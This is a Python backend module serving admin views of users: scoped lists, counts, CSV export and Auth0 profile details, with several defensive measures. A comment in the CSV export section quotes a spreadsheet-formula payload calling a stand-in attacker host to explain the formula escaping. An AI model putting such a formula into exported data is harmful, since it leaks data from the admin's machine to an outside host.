"""What admins read about users: filtered lists, page totals, counts, one user's details.

Every read is narrowed to the caller's scope (services/identity/admin_scope.py) and leaves the
caller out. Lists are ordered newest first (created_at, then id, so pages never shift
between equal timestamps) and load each page's memberships in two queries.
"""

import asyncio
import csv
import io
import logging
import math
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import sqlalchemy as sa
from sqlmodel import select
from sqlmodel.ext.asyncio.session import AsyncSession

from db.engine import SessionFactory
from db.models import (
    Group,
    GroupMembershipHistory,
    Platform,
    PlatformMembershipHistory,
    SyncRun,
    User,
    UserHistory,
)
from db.types import ApprovalStatus
from schemas.sync import SyncRunPublic
from schemas.users import (
    AdminFilter,
    AdminUser,
    AdminUserDetails,
    AdminUserQuery,
    IsAdmin,
    MembershipHistoryEntry,
    UserCounts,
    UserHistoryEntry,
    UserPages,
)
from services.auth0 import Auth0Gateway
from services.errors import AppError, BadRequest, NotFound
from services.identity.admin_scope import (
    GROUPS,
    KINDS,
    PLATFORMS,
    Kind,
    Scope,
    administered_target,
    visible_user,
)
from services.kit.cache import TtlCache

logger = logging.getLogger("aai.admin")

AUTOMATIC = "(automatic)"
PROFILE_TIMEOUT_S = 3.0
EXPORT_BATCH = 500

u = User.__table__
# Built once: an alias's column collection is costly to set up, and pages are hot.
updater = u.alias("updater")


async def filters(session: AsyncSession, scope: Scope) -> list[AdminFilter]:
    platforms = select(Platform.id, Platform.name).where(Platform.removed_at.is_(None))
    groups = select(Group.id, Group.name).where(Group.removed_at.is_(None))
    if not scope.everything:
        platforms = platforms.where(Platform.id.in_(scope.platforms))
        groups = groups.where(Group.id.in_(scope.groups))
    return [
        AdminFilter(id=i, name=n, type="platform")
        for i, n in (await session.exec(platforms.order_by(Platform.name))).all()
    ] + [
        AdminFilter(id=i, name=n, type="group")
        for i, n in (await session.exec(groups.order_by(Group.name))).all()
    ]


async def is_platform_admin(session: AsyncSession, scope: Scope, platform_id: str) -> IsAdmin:
    platform = await session.get(Platform, platform_id)
    if platform is None or platform.removed_at is not None:
        raise NotFound(f"no platform {platform_id!r}")
    return IsAdmin(
        platform_id=platform_id, is_admin=scope.everything or platform_id in scope.platforms
    )


# ---------------------------------------------------------------------------- filters


@dataclass(frozen=True)
class Selection:
    """A validated query: the platform and group it names, checked against the scope."""

    query: AdminUserQuery
    platform: str | None
    group: str | None


async def _filter_by(session: AsyncSession, scope: Scope, value: str) -> tuple[str, str]:
    """`filter_by` takes a platform id or a group id; a group's last path segment (the
    short form older portals send, e.g. `tsi`) is accepted too."""
    if await session.get(Platform, value) is not None:
        return "platform", (await administered_target(session, scope, "platform", value)).id
    if await session.get(Group, value) is None:
        matches = (
            await session.exec(
                select(Group.id).where(
                    Group.id.like(f"%/{like_literal(value)}", escape="\\"),
                    Group.removed_at.is_(None),
                )
            )
        ).all()
        if len(matches) != 1:
            raise NotFound(f"no platform or group {value!r}")
        value = matches[0]
    return "group", (await administered_target(session, scope, "group", value)).id


async def select_users(session: AsyncSession, scope: Scope, query: AdminUserQuery) -> Selection:
    if query.approval_status and (query.platform_approval_status or query.group_approval_status):
        raise BadRequest(
            "approval_status cannot be combined with platform_approval_status or "
            "group_approval_status; use one or the other"
        )
    platform = (
        (await administered_target(session, scope, "platform", query.platform)).id
        if query.platform
        else None
    )
    group = (
        (await administered_target(session, scope, "group", query.group)).id
        if query.group
        else None
    )
    if query.filter_by:
        kind, target = await _filter_by(session, scope, query.filter_by)
        chosen = platform if kind == "platform" else group
        if chosen is not None and chosen != target:
            raise BadRequest(f"filter_by={query.filter_by!r} contradicts {kind}={chosen!r}")
        if kind == "platform":
            platform = target
        else:
            group = target
    return Selection(query, platform, group)


def like_literal(term: str) -> str:
    """`term` for a LIKE pattern (escape character `\\`) in which `%`, `_` and `\\`
    match themselves: `coh%` must not find every group starting with "coh"."""
    return term.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")


def contains(column: sa.ColumnElement[str], term: str) -> sa.ColumnElement[bool]:
    """Case-insensitive "part of" match that the trigram indexes on lower(email) and
    lower(username) answer; `%`, `_` and `\\` in the term match themselves."""
    return sa.func.lower(column).like(f"%{like_literal(term.lower())}%", escape="\\")


def _where(scope: Scope, selection: Selection) -> list[sa.ColumnElement[bool]]:
    query = selection.query
    clauses: list[sa.ColumnElement[bool]] = [
        u.c.is_deleted.is_(query.deleted),
        u.c.id != scope.caller_id,
    ]
    if query.email_verified is not None:
        clauses.append(u.c.email_verified.is_(query.email_verified))
    if query.search:
        by_email = contains(u.c.email, query.search)
        if "@" in query.search:
            clauses.append(by_email)
        else:
            clauses.append(sa.or_(by_email, contains(u.c.username, query.search)))

    platform_status = query.platform_approval_status or query.approval_status
    group_status = query.group_approval_status or query.approval_status
    narrowed = False  # a membership clause below already keeps users inside the scope
    user = u.c.id
    if selection.platform:
        clauses.append(
            scope.has_membership(
                user, PLATFORMS, targets=[selection.platform], status=platform_status
            )
        )
        narrowed = True
    if selection.group:
        clauses.append(
            scope.has_membership(user, GROUPS, targets=[selection.group], status=group_status)
        )
        narrowed = True
    if not narrowed:
        if query.approval_status:
            clauses.append(
                sa.or_(
                    *(
                        scope.has_membership(user, kind, status=query.approval_status)
                        for kind in KINDS
                    )
                )
            )
            narrowed = True
        if query.platform_approval_status:
            clauses.append(
                scope.has_membership(user, PLATFORMS, status=query.platform_approval_status)
            )
            narrowed = True
        if query.group_approval_status:
            clauses.append(scope.has_membership(user, GROUPS, status=query.group_approval_status))
            narrowed = True
    if not narrowed and not scope.everything:
        clauses.append(scope.membership_clause(u.c.id))
    return clauses


# ---------------------------------------------------------------------------- lists

ORDER = (u.c.created_at.desc(), u.c.id.desc())
LIST_COLUMNS = (u.c.id, u.c.email, u.c.username, u.c.email_verified, u.c.created_at, u.c.is_deleted)


async def list_users(session: AsyncSession, scope: Scope, selection: Selection) -> list[AdminUser]:
    query = selection.query
    statement = (
        sa.select(*LIST_COLUMNS)
        .where(*_where(scope, selection))
        .order_by(*ORDER)
        .limit(query.per_page)
        .offset((query.page - 1) * query.per_page)
    )
    rows = (await session.execute(statement)).all()
    return await _with_memberships(session, scope, rows)


async def pages(session: AsyncSession, scope: Scope, selection: Selection) -> UserPages:
    total = await session.scalar(
        sa.select(sa.func.count()).select_from(u).where(*_where(scope, selection))
    )
    per_page = selection.query.per_page
    return UserPages(total=total or 0, pages=math.ceil((total or 0) / per_page), per_page=per_page)


async def export_csv(
    factory: SessionFactory, scope: Scope, selection: Selection
) -> AsyncIterator[str]:
    """The whole filtered list as CSV, streamed: its own read-only session (the request's
    has ended by the time the body is sent), keyset batches so memory stays flat."""
    async with factory() as session:
        async for chunk in _export_rows(session, scope, selection):
            yield chunk


async def _export_rows(
    session: AsyncSession, scope: Scope, selection: Selection
) -> AsyncIterator[str]:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(
        [
            "id",
            "email",
            "username",
            "email_verified",
            "created_at",
            "platform_memberships",
            "group_memberships",
        ]
    )
    yield _drain(out)
    where = _where(scope, selection)
    after: tuple[datetime, str] | None = None
    while True:
        statement = sa.select(*LIST_COLUMNS).where(*where).order_by(*ORDER).limit(EXPORT_BATCH)
        if after is not None:
            statement = statement.where(sa.tuple_(u.c.created_at, u.c.id) < sa.tuple_(*after))
        rows = (await session.execute(statement)).all()
        if not rows:
            return
        for user in await _with_memberships(session, scope, rows):
            writer.writerow(
                [
                    safe_cell(user.id),
                    safe_cell(user.email or ""),
                    safe_cell(user.username or ""),
                    "true" if user.email_verified else "false",
                    user.created_at.isoformat(),
                    safe_cell(
                        "; ".join(
                            f"{m.platform_id}:{m.approval_status}"
                            for m in user.platform_memberships
                        )
                    ),
                    safe_cell(
                        "; ".join(
                            f"{m.group_id}:{m.approval_status}" for m in user.group_memberships
                        )
                    ),
                ]
            )
        yield _drain(out)
        after = (rows[-1].created_at, rows[-1].id)


# A spreadsheet runs a cell starting with one of these as a formula: a sign-up named
# `=HYPERLINK("https://evil.example/?"&A1, "x")@…` would run on the admin's machine.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """The value as text a spreadsheet shows rather than evaluates."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text


async def _with_memberships(
    session: AsyncSession, scope: Scope, rows: Sequence[sa.Row[Any]] | Sequence[User]
) -> list[AdminUser]:
    """Attach each user's memberships: the ones inside the caller's scope (everything
    for a general admin), with the deciding admin's email."""
    ids = [row.id for row in rows]
    if not ids:
        return []
    found: dict[str, dict[str, list[dict[str, Any]]]] = {
        kind.name: {i: [] for i in ids} for kind in KINDS
    }
    for kind in KINDS:
        if scope.covers(kind):
            for membership in await _memberships(session, scope, kind, ids):
                found[kind.name][membership["user_id"]].append(membership)
    return [
        AdminUser.model_validate(
            {
                "id": row.id,
                "email": row.email,
                "username": row.username,
                "email_verified": row.email_verified,
                "created_at": row.created_at,
                "is_deleted": row.is_deleted,
                "platform_memberships": found["platform"][row.id],
                "group_memberships": found["group"][row.id],
            }
        )
        for row in rows
    ]


async def _memberships(
    session: AsyncSession, scope: Scope, kind: Kind, user_ids: Sequence[str]
) -> list[dict[str, Any]]:
    """The page's memberships of one kind, named the way the API shapes name them.

    Plain columns, not ORM entities: this runs for every page, and entity loading cost
    more than the query."""
    table, catalog = kind.memberships, kind.catalog
    statement = (
        sa.select(
            table,
            catalog.c.name.label("target_name"),
            catalog.c.short_name.label("target_short_name"),
            updater.c.email.label("updater_email"),
        )
        .join(catalog, catalog.c.id == kind.target)
        .outerjoin(updater, updater.c.id == table.c.updated_by_id)
        .where(table.c.user_id.in_(user_ids))
        .order_by(kind.target)
    )
    if not scope.everything:
        statement = statement.where(kind.target.in_(scope.targets(kind)))
    return [
        {
            **row,
            f"{kind.name}_name": row["target_name"],
            f"{kind.name}_short_name": row["target_short_name"],
            "updated_by": _updated_by(row["updated_by_id"], row["updater_email"]),
        }
        for row in (await session.execute(statement)).mappings().all()
    ]


def _updated_by(updated_by_id: str | None, email: str | None) -> str:
    # No one: the sync or a sign-up default made the change.
    return AUTOMATIC if updated_by_id is None else (email or updated_by_id)


# ---------------------------------------------------------------------------- counts


async def counts(
    session: AsyncSession, scope: Scope, cache: TtlCache[UserCounts] | None = None
) -> UserCounts:
    """The four dashboard figures in one statement of four scalar subqueries, each shaped
    to be answered from an index (see CONTRIBUTING, "Admin lists at scale").

    The dashboard asks on every page view and each figure walks up to every user, so
    each API process may reuse a caller's figures for ADMIN_COUNTS_CACHE_S seconds."""
    if cache is None:
        return await _counts(session, scope)
    key = (scope.caller_id, scope.everything, scope.platforms, scope.groups)
    return await cache.get(key, lambda: _counts(session, scope))


async def _counts(session: AsyncSession, scope: Scope) -> UserCounts:
    row = (
        await session.execute(
            sa.select(
                _count_members(scope, None).label("all"),
                _count_members(scope, ApprovalStatus.PENDING).label("pending"),
                _count_members(scope, ApprovalStatus.REVOKED).label("revoked"),
                _count_unverified(scope).label("unverified"),
            )
        )
    ).one()
    return UserCounts(
        all=row.all, pending=row.pending, revoked=row.revoked, unverified=row.unverified
    )


def _count_members(scope: Scope, status: ApprovalStatus | None) -> sa.ScalarSelect[int]:
    """Live users (not the caller) with a membership in scope, in `status` if given."""
    if scope.everything and status is None:
        return (
            sa.select(sa.func.count())
            .select_from(u)
            .where(sa.not_(u.c.is_deleted), u.c.id != scope.caller_id)
            .scalar_subquery()
        )
    parts = [scope.members(kind, status=status) for kind in KINDS if scope.covers(kind)]
    # One platform or group holds each user once; across several, UNION counts them once.
    single = not scope.everything and len(scope.platforms) + len(scope.groups) == 1
    members = (parts[0] if single else sa.union(*parts)).subquery("members")
    deleted = sa.exists().where(u.c.id == members.c.user_id, u.c.is_deleted)
    return (
        sa.select(sa.func.count())
        .select_from(members)
        .where(members.c.user_id != scope.caller_id, sa.not_(deleted))
        .scalar_subquery()
    )


def _count_unverified(scope: Scope) -> sa.ScalarSelect[int]:
    statement = (
        sa.select(sa.func.count())
        .select_from(u)
        .where(sa.not_(u.c.is_deleted), sa.not_(u.c.email_verified), u.c.id != scope.caller_id)
    )
    if not scope.everything:
        statement = statement.where(scope.membership_clause(u.c.id))
    return statement.scalar_subquery()


# ---------------------------------------------------------------------------- one user


async def get_user(session: AsyncSession, scope: Scope, user_id: str) -> AdminUser:
    user = await visible_user(session, scope, user_id)
    return (await _with_memberships(session, scope, [user]))[0]


async def details(
    session: AsyncSession, auth0: Auth0Gateway, scope: Scope, user_id: str
) -> AdminUserDetails:
    """The record, its history, and the live Auth0 profile when Auth0 answers in time."""
    user = await visible_user(session, scope, user_id)
    base = (await _with_memberships(session, scope, [user]))[0]
    try:
        profile = await asyncio.wait_for(auth0.get_user(user_id), PROFILE_TIMEOUT_S)
    except NotFound:
        profile = {}  # removed in Auth0 since the last sync: the record is all there is
    except (AppError, TimeoutError) as exc:
        logger.warning("Auth0 profile of %s unavailable: %r", user_id, exc)
        profile = {}
    live = bool(profile)
    return AdminUserDetails(
        **base.model_dump(),
        profile_source="auth0" if live else "database",
        user_id=user.id,
        updated_at=user.updated_at,
        name=profile.get("name", user.name),
        given_name=profile.get("given_name", user.given_name),
        family_name=profile.get("family_name", user.family_name),
        picture=profile.get("picture", user.picture),
        blocked=bool(profile.get("blocked", user.blocked)),
        connection=user.connection,
        last_login=profile.get("last_login", user.last_login),
        # Where the user last signed in from, and what other apps stored about them, are
        # for general admins only.
        last_ip=profile.get("last_ip") if scope.everything else None,
        logins_count=profile.get("logins_count"),
        identities=[_identity(i) for i in profile.get("identities") or [] if isinstance(i, dict)],
        user_metadata=profile.get("user_metadata") or {},
        app_metadata=(profile.get("app_metadata") or {}) if scope.everything else {},
        deleted_at=user.deleted_at,
        deletion_reason=user.deletion_reason,
        history=await _user_history(session, user_id),
        membership_history=await _membership_history(session, scope, user_id),
    )


# Auth0 puts the identity provider's access and refresh tokens (and its profileData) on
# each identity of a social or enterprise login; an admin page needs only which.
IDENTITY_FIELDS = ("provider", "connection", "user_id", "isSocial")


def _identity(identity: dict[str, Any]) -> dict[str, Any]:
    return {key: identity[key] for key in IDENTITY_FIELDS if key in identity}


async def _user_history(session: AsyncSession, user_id: str) -> list[UserHistoryEntry]:
    actor = sa.orm.aliased(User)
    statement = (
        sa.select(UserHistory, actor.email)
        .outerjoin(actor, actor.id == UserHistory.changed_by_id)
        .where(UserHistory.user_id == user_id)
        .order_by(UserHistory.created_at.desc(), UserHistory.id.desc())
        .limit(200)
    )
    return [
        UserHistoryEntry(
            change=h.change,
            previous_value=h.previous_value,
            new_value=h.new_value,
            reason=h.reason,
            changed_by=email or h.changed_by_id or AUTOMATIC,
            created_at=h.created_at,
        )
        for h, email in (await session.execute(statement)).all()
    ]


async def _membership_history(
    session: AsyncSession, scope: Scope, user_id: str
) -> list[MembershipHistoryEntry]:
    entries: list[MembershipHistoryEntry] = []
    for kind, model, column in (
        ("platform", PlatformMembershipHistory, PlatformMembershipHistory.platform_id),
        ("group", GroupMembershipHistory, GroupMembershipHistory.group_id),
    ):
        allowed = scope.platforms if kind == "platform" else scope.groups
        if not scope.everything and not allowed:
            continue
        actor = sa.orm.aliased(User)
        statement = (
            sa.select(model, actor.email)
            .outerjoin(actor, actor.id == model.updated_by_id)
            .where(model.user_id == user_id)
            .order_by(model.created_at.desc())
            .limit(200)
        )
        if not scope.everything:
            statement = statement.where(column.in_(allowed))
        for h, email in (await session.execute(statement)).all():
            entries.append(
                MembershipHistoryEntry(
                    kind=kind,  # type: ignore[arg-type]
                    target_id=getattr(h, column.key),
                    approval_status=h.approval_status,
                    reason=h.reason,
                    updated_by=_updated_by(h.updated_by_id, email),
                    created_at=h.created_at,
                )
            )
    entries.sort(key=lambda e: e.created_at, reverse=True)
    return entries


# ---------------------------------------------------------------------------- scheduler runs


async def sync_runs(session: AsyncSession, *, job: str | None, limit: int) -> list[SyncRunPublic]:
    statement = select(SyncRun).order_by(SyncRun.started_at.desc(), SyncRun.id.desc()).limit(limit)
    if job:
        statement = statement.where(SyncRun.job == job)
    return [
        SyncRunPublic(
            id=run.id or 0,
            job=run.job,
            status=run.status,
            dry_run=run.dry_run,
            started_at=run.started_at,
            finished_at=run.finished_at,
            duration_s=(run.finished_at - run.started_at).total_seconds()
            if run.finished_at
            else None,
            counts=run.counts,
            error=run.error,
            host=run.host,
        )
        for run in (await session.exec(statement)).all()
    ]
